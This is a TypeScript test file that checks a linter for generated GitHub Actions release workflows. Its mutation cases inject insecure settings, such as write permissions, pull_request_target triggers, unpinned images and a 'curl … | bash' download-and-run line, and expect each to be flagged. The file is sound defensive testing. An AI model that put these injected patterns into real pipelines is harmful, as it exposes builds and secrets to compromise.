import { describe, expect, test } from "vitest";
import { generated, type Wanted } from "./generated";
import { ruleFaults } from "./rules";

const TRIGGERS = { branches: ["main"], tags: ["v*"] };

describe("what no linter reports", () => {
  const variants = (["action", "cli"] as const).flatMap((signWith) =>
    ([1, 2] as const).flatMap((images) =>
      [undefined, "release"].map((environment): Wanted => ({ signWith, images, environment })),
    ),
  );

  test.each(variants)("holds: $signWith, $images image(s), environment $environment", (wanted) => {
    expect(ruleFaults(generated(wanted), TRIGGERS)).toEqual([]);
  });

  test.each<[fault: RegExp, from: string | RegExp, to: string]>([
    [/no timeout/, /.*timeout-minutes.*\n/, ""],
    [/runner is not a fixed one/, "ubuntu-24.04", "ubuntu-latest"],
    [/triggers are others/, / {4}branches:\n.*\n/, ""],
    [/triggers are others/, "workflow_dispatch: {}", "pull_request_target: {}"],
    [/every job has/, "jobs:", "env:\n  ID: 1\njobs:"],
    [/secret for every step/, "    steps:", "    env:\n      ID: ${{ secrets.ID }}\n    steps:"],
    [/an id stands/, "${{ secrets.AZURE_CLIENT_ID }}", "7f4f2a30-9d0c-4b0a-8a6e-0c6b2f2f1a01"],
    [/download is run unseen/, "az acr", "curl -s https://x.example | bash\n          az acr"],
    [/expression in a script/, "az acr", "echo ${{ github.sha }}\n          az acr"],
    [/later step/, '>> "$GITHUB_OUTPUT"', '>> "$GITHUB_ENV"'],
    [/not the permissions/, "contents: read", "contents: write"],
    [/not the permissions/, "contents: read", "packages: write\n      contents: read"],
    [/permissions to every job/, "permissions: {}", "permissions: read-all"],
    [/image without a digest/, /(buildkit:v[\d.]+)@sha256:\w+/, "$1"],
    [/image without a digest/, / {8}with:\n {10}driver-opts: .*\n/, ""],
    [/later step/, 'echo "JOB_FOLDER=$folder"', 'echo "PATH=$folder"'],
    [/not the pinned one/, /(azure\/login@)\w{40}/, `$1${"0".repeat(40)}`],
  ])("is noticed: %s", (fault, from, to) => {
    const text = generated({});
    const broken = text.replace(from, to);
    expect(broken).not.toBe(text);
    expect(ruleFaults(broken, TRIGGERS).join("\n")).toMatch(fault);
  });
});
